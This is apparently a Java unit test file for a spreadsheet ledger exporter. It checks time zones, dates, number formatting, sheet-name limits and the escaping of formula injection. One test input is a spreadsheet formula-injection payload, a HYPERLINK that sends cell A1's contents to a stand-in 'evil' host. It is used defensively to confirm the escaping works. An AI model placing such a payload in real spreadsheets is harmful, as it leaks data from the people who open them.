package cn.zhuanban.shared.web;

import static org.assertj.core.api.Assertions.assertThat;

import cn.zhuanban.shared.files.XlsxRow;
import cn.zhuanban.shared.files.XlsxSheet;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Cells of exported ledgers: moments in the district's wall-clock time, dates as dates, amounts in full. */
class XlsxWriterTests {

    @Test
    void aMomentIsWrittenAsTheDistrictsWallClockTimeAndADateAsADate() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XlsxWriter writer = new XlsxWriter("台账", List.of("时间", "日期", "名称"))) {
            writer.row(Instant.parse("2026-11-30T16:30:00Z"), LocalDate.of(2026, 10, 9), "项目");
            writer.writeTo(out);
        }
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Row row = book.getSheetAt(0).getRow(1);
            // 16:30 UTC is half past midnight of the next day in Beijing time.
            assertThat(row.getCell(0).getLocalDateTimeCellValue()).isEqualTo(LocalDateTime.of(2026, 12, 1, 0, 30));
            assertThat(new DataFormatter().formatCellValue(row.getCell(0))).isEqualTo("2026-12-01 00:30:00");
            assertThat(row.getCell(1).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2026, 10, 9));
            assertThat(row.getCell(2).getStringCellValue()).isEqualTo("项目");
        }
    }

    @Test
    void textThatWouldStartAFormulaGetsAnApostropheNumbersStayNumbersAndAnImportTakesItOff() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        String hyperlink = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
        try (XlsxWriter writer = new XlsxWriter("台账", List.of("a", "b", "c", "d", "e", "f", "g", "h"))) {
            writer.row(hyperlink, "+86 138", "-1+2", "@SUM(A1)", "\tx", "正常 = 文本", new BigDecimal("-5.50"), -3);
            writer.writeTo(out);
        }
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Row row = book.getSheetAt(0).getRow(1);
            assertThat(row.getCell(0).getStringCellValue()).isEqualTo("'" + hyperlink);
            assertThat(row.getCell(1).getStringCellValue()).isEqualTo("'+86 138");
            assertThat(row.getCell(2).getStringCellValue()).isEqualTo("'-1+2");
            assertThat(row.getCell(3).getStringCellValue()).isEqualTo("'@SUM(A1)");
            assertThat(row.getCell(4).getStringCellValue()).isEqualTo("'\tx");
            assertThat(row.getCell(5).getStringCellValue()).isEqualTo("正常 = 文本");
            assertThat(row.getCell(6).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(row.getCell(6).getNumericCellValue()).isEqualTo(-5.5);
            assertThat(row.getCell(7).getNumericCellValue()).isEqualTo(-3);
        }
        XlsxRow imported =
                XlsxSheet.read(out.toByteArray(), Long.MAX_VALUE, 10).rows().getFirst();
        assertThat(imported.text(0)).isEqualTo(hyperlink);
        assertThat(imported.text(1)).isEqualTo("+86 138");
        assertThat(imported.text(5)).isEqualTo("正常 = 文本");
    }

    @Test
    void aTitleExcelRefusesAsASheetNameStillGivesALedger() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XlsxWriter writer =
                new XlsxWriter("District battle map: monthly targets [2027] / all levels?", List.of("Project"))) {
            writer.row("A");
            writer.writeTo(out);
        }
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertThat(book.getSheetName(0)).startsWith("District battle map").hasSizeLessThanOrEqualTo(31);
            assertThat(book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue())
                    .isEqualTo("A");
        }
    }

    @Test
    void aLargeAmountShowsItsDigitsNotAnExponentAndKeepsItsDecimals() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XlsxWriter writer = new XlsxWriter("台账", List.of("总投资", "本月", "户数"))) {
            writer.row(new BigDecimal("123456789012.50"), new BigDecimal("12.50"), new BigDecimal("1E+2"));
            writer.writeTo(out);
        }
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Row row = book.getSheetAt(0).getRow(1);
            DataFormatter shown = new DataFormatter();
            assertThat(shown.formatCellValue(row.getCell(0))).isEqualTo("123456789012.50");
            assertThat(shown.formatCellValue(row.getCell(1))).isEqualTo("12.50");
            assertThat(shown.formatCellValue(row.getCell(2))).isEqualTo("100");
            assertThat(row.getCell(0).getNumericCellValue()).isEqualTo(123456789012.5);
        }
    }
}
